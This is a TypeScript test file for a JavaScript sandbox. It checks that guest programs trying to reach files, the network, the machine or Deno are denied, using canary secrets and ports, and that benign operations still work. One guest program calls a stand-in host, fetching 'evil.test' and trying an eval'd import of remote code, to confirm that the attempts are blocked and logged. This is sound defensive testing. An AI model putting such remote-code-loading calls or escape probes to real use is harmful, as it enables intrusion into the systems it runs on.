/**
 * Programs that try to get out. Each attack is proved to be denied against something real that it would have reached, and the
 * nearest thing that is allowed is proved to work, so that "denied" is not just "broken".
 */

import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { connect } from 'node:net'
import { describe, expect } from 'vitest'
import type { GuestRun } from '../../src/sandbox/index.js'
import type { GuestRecipe } from '../../src/sandbox/process/guest-process.js'
import { verifies } from '../verifies.js'
import { DENIED, FILES, MACHINE, NETWORK } from './attack-list.js'
import { bareRecipe, runBare } from './bare-guest.js'
import { type Canaries, setUpCanaries } from './canaries.js'
import { THROUGH_DENO } from './deno-attacks.js'
import { guestJob, sandboxTest } from './guest-job.js'
import { runProbes } from './probe-run.js'

verifies('sandbox:attacks-denied', 'sandbox:attempts-told', 'adr:no-permissions')

const test = sandboxTest.extend<{
  canaries: Canaries
  recipe: GuestRecipe
  /** All attacks, one after the other in one guest. */
  attacked: Awaited<ReturnType<typeof runProbes>>
}>({
  recipe: [
    // biome-ignore lint/correctness/noEmptyPattern: the test runner reads what a fixture needs from this pattern
    async ({}, use) => {
      const recipe = await bareRecipe()
      await use(recipe)
      recipe.audits?.close()
    },
    { scope: 'file' },
  ],
  canaries: [
    // biome-ignore lint/correctness/noEmptyPattern: the test runner reads what a fixture needs from this pattern
    async ({}, use) => {
      await using canaries = await setUpCanaries()
      await use(canaries)
    },
    { scope: 'file' },
  ],
  attacked: [
    async ({ sandbox, canaries }, use) =>
      use(
        await runProbes(sandbox, [...FILES, ...NETWORK, ...MACHINE, ...THROUGH_DENO], {
          params: pathsOf(canaries),
          budgets: { wallMs: 30_000 },
        }),
      ),
    { scope: 'file' },
  ],
})

describe.each([
  ['the file system', FILES],
  ['the network', NETWORK],
  ['the machine', MACHINE],
  ['everything, through Deno', THROUGH_DENO],
])('an attack on %s gets nothing', (_, attacks) => {
  test.for([...attacks])('when $name', async ({ name }, { attacked, canaries }) => {
    const { value, error } = attacked.outcomeOf(name)

    expect(value).toBeUndefined()
    expect(error).toMatch(/Error\b|NotCapable|denied/)
    expect(JSON.stringify({ ...attacked.run, attempts: [] })).not.toContain(canaries.secret)
    await expectUntouched(canaries)
  })
})

describe.each([
  ['the file system', FILES],
  ['the network', NETWORK],
  ['everything, through Deno', THROUGH_DENO],
])('the process alone, with nothing hidden, denies an attack on %s', (_, attacks) => {
  test.for([...attacks])(
    'when $name',
    async ({ program, attempt, denied = DENIED }, { recipe, canaries }) => {
      const run = await runBare(recipe, program, pathsOf(canaries))

      expect(run.error, JSON.stringify(run)).toMatch(denied)
      expect(run.attempts.map(({ kind }) => kind)).toEqual(
        attempt === undefined || recipe.audits === undefined
          ? expect.anything()
          : expect.arrayContaining([attempt]),
      )
      await expectUntouched(canaries)
    },
  )
})

describe('what is nearest to an attack and allowed works', () => {
  test.for([
    ['bytes are written as text', `return Buffer.from('hi').toString('base64') + btoa('hi')`, 'aGk=aGk='],
    [
      'WebAssembly compiles',
      `return (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance instanceof WebAssembly.Instance`,
      true,
    ],
    ['fetch reads data:', `return (await fetch('data:text/plain,hello')).text()`, 'hello'],
    [
      'a digest is computed',
      `return Buffer.from(await crypto.subtle.digest('SHA-256', new Uint8Array())).toString('hex').slice(0, 8)`,
      'e3b0c442',
    ],
    [
      'streams and compression work',
      `return new Response(new Blob(['hi']).stream().pipeThrough(new CompressionStream('gzip')).pipeThrough(new DecompressionStream('gzip'))).text()`,
      'hi',
    ],
    [
      'structuredClone and URL work',
      `return structuredClone({ href: new URL('/b', 'http://a.test').href })`,
      { href: 'http://a.test/b' },
    ],
    [
      'events are dispatched',
      `let n = 0; const target = new EventTarget(); target.addEventListener('x', () => n++); target.dispatchEvent(new Event('x')); return n`,
      1,
    ],
    [
      'files hold what they are given',
      `const file = new File(['h', new Blob(['i'])], 'a.txt', { type: 'text/plain' }); return [file.name, await file.text(), file.slice(1).size, await new Response(file).text()]`,
      ['a.txt', 'hi', 1, 'hi'],
    ],
    [
      'a message is signed and a symmetric key made',
      `const key = await crypto.subtle.generateKey({ name: 'HMAC', hash: 'SHA-256' }, true, ['sign', 'verify']); const data = new Uint8Array(3); return crypto.subtle.verify('HMAC', key, await crypto.subtle.sign('HMAC', key, data), data)`,
      true,
    ],
  ] as const)('%s', async ([, program, result], { sandbox }) => {
    const run = await sandbox.run(guestJob(program))

    expect(run).toMatchObject({ ended: 'completed', result })
  })

  test('the canaries would have told: the test itself reaches them', async () => {
    await using canaries = await setUpCanaries()
    const socket = connect(canaries.port, '127.0.0.1')
    await once(socket, 'connect')
    socket.destroy()
    await once(socket, 'close')

    expect(await readFile(canaries.secretFile, 'utf8')).toBe(canaries.secret)
    expect(process.env.UNDERSTUDY_CANARY).toBe(canaries.secret)
    await expect.poll(() => canaries.arrivals()).toBe(1)
  })
})

test('nothing outlives a run: what one program leaves, the next one does not find', async ({ sandbox }) => {
  const leave = `globalThis.left = 1; Object.prototype.left = 1
    try { new BroadcastChannel('left').postMessage('left') } catch {}
    try { sessionStorage.setItem('left', '1') } catch {}
    try { localStorage.setItem('left', '1') } catch {}
    try { await (await caches.open('left')).put('http://a.test/', new Response('1')) } catch {}
    return 'left'`
  const look = `const found = []
    if ('left' in globalThis) found.push('global')
    try { new BroadcastChannel('left').onmessage = () => found.push('channel') } catch {}
    try { if (sessionStorage.getItem('left')) found.push('session') } catch {}
    try { if (localStorage.getItem('left')) found.push('local') } catch {}
    try { if (await caches.has('left')) found.push('cache') } catch {}
    await new Promise((resolve) => setTimeout(resolve, 100))
    return found`

  const left = await sandbox.run(guestJob(leave))
  const found = await sandbox.run(guestJob(look))

  expect(left.result).toBe('left')
  expect(found).toMatchObject({ ended: 'completed', result: [] })
})

test('accesses that were denied are told, with their targets, once each', async ({ sandbox }) => {
  const run = await sandbox.run(
    guestJob(`for (let i = 0; i < 50; i++) try { await fetch('http://evil.test:8443/') } catch {}
      try { eval('import("https://evil.test/x.js")') } catch {}
      return 'done'`),
  )

  const evaluated = { kind: 'eval', target: 'eval', allowed: false }
  const expected = [evaluated, { kind: 'net', target: 'evil.test:8443', allowed: false }]
  expect(run.result).toBe('done')
  expect(run.attempts).toEqual(
    sandbox.layers.includes('audit') ? expect.arrayContaining(expected) : [evaluated],
  )
})

async function expectUntouched(canaries: Canaries): Promise<void> {
  expect(canaries.arrivals()).toBe(0)
  expect(await canaries.files()).toEqual(['canary.sock', 'secret.txt'])
  expect(await readFile(canaries.secretFile, 'utf8')).toBe(canaries.secret)
}

function pathsOf({ folder, secretFile, port, udpPort, socketPath }: Canaries): GuestRun['result'] {
  return { folder, secretFile, port, udpPort, socketPath }
}
